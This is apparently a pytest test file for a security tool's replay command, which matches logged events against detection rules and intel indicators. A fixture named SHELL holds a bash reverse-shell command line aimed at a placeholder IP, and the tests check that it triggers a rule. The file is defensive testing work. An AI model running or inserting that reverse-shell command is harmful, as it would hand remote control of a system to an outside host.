import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.commands import replay as module
from agent.commands.match import FORMATS
from agent.commands.replay import Judged, replay
from agent.sense.match import sigmaformats
from proto.content.index import MappedIndex
from proto.content.rules import RuleSet
from proto.model import ObservationKind
from proto.rows import plain
from tests.collector.content.rulesources import own
from tests.proto.builders import a_process, an_observation
from tests.proto.content.builders import EICAR, a_file

SHELL = {"Image": "/bin/bash", "CommandLine": "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"}
RULES = own().rules


def judged(
    *lines: object, name: str = "raw", rules: RuleSet | None = RULES, intel: bool = False
) -> tuple[list[dict[str, Any]], Judged]:
    data = b"".join(
        (line if isinstance(line, bytes) else json.dumps(line).encode()) + b"\n" for line in lines
    )
    index, count = MappedIndex(a_file()) if intel else None, Judged()
    return [dict(row) for row in replay(io.BytesIO(data), name, rules, index, count)], count


def test_a_match_names_its_rule_its_event_and_its_fields() -> None:
    rows, count = judged({"Image": "/bin/ls"}, SHELL)

    assert rows == [{"rule_id": RULES.rules[2].id, "event": 1, "fields": SHELL}]
    assert (count.lines, count.bad) == (2, 0)


def test_an_observation_is_judged_like_any_other_event() -> None:
    process = a_process(exe="/bin/bash", argv=tuple(SHELL["CommandLine"].split()))
    seen = an_observation(process, kind=ObservationKind.PROCESS_EXEC)
    parent = a_process(exe="/usr/sbin/sshd", argv=("sshd",))
    whole = an_observation(process, kind=ObservationKind.PROCESS_EXEC, ancestry=(parent,))

    rows, count = judged(plain(seen), plain(whole), name="observation")

    assert count.bad == 0
    # Without its parent nobody knows whether the rule's exception holds.
    assert [row["event"] for row in rows] == [1]


def test_values_of_events_are_looked_up_in_the_index() -> None:
    rows, _ = judged(
        {"Hashes": f"SHA256={EICAR}"},
        {"DestinationIp": "192.0.2.1", "DestinationPort": 4444},
        {"DestinationIp": "198.51.100.1"},
        rules=None,
        intel=True,
    )

    assert {row["rule_id"] for row in rows if row["event"] == 0} == {"indicator.sha256"}
    assert "indicator.ip_port" in {row["rule_id"] for row in rows if row["event"] == 1}
    assert all(row["event"] < 2 for row in rows)
    assert rows[0]["fields"]["value"] == EICAR


def test_a_line_that_is_no_event_is_named_and_the_run_goes_on(
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows, count = judged(b"{", b"", b"[1]", b"\xff", {"event.category": "x"}, name="ecs")

    assert rows == []
    assert (count.lines, count.bad) == (5, 3)
    assert "line 1:" in capsys.readouterr().err


def test_a_line_that_is_too_long_is_none(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(module, "LINE_BYTES_MAX", 128)

    rows, count = judged(b"x" * 1000, SHELL, b"{}" + b" " * 125)

    assert [row["event"] for row in rows] == [1]
    assert (count.lines, count.bad) == (3, 1)
    assert "128 bytes" in capsys.readouterr().err


def test_a_line_of_a_log_is_an_event_of_words() -> None:
    rows, _ = judged(b"Jan 1 host sshd[1]: Bad protocol version identification")

    assert [row["event"] for row in rows] == [0]


def test_the_formats_of_the_command_are_those_that_are_read() -> None:
    assert (module.OBSERVATION, *sigmaformats.FORMATS) == FORMATS


@given(st.sampled_from(FORMATS), st.binary(max_size=200))
def test_any_line_is_judged_or_counted(name: str, line: bytes) -> None:
    count = Judged()

    list(replay(io.BytesIO(line), name, RULES, None, count))

    assert count.bad <= count.lines
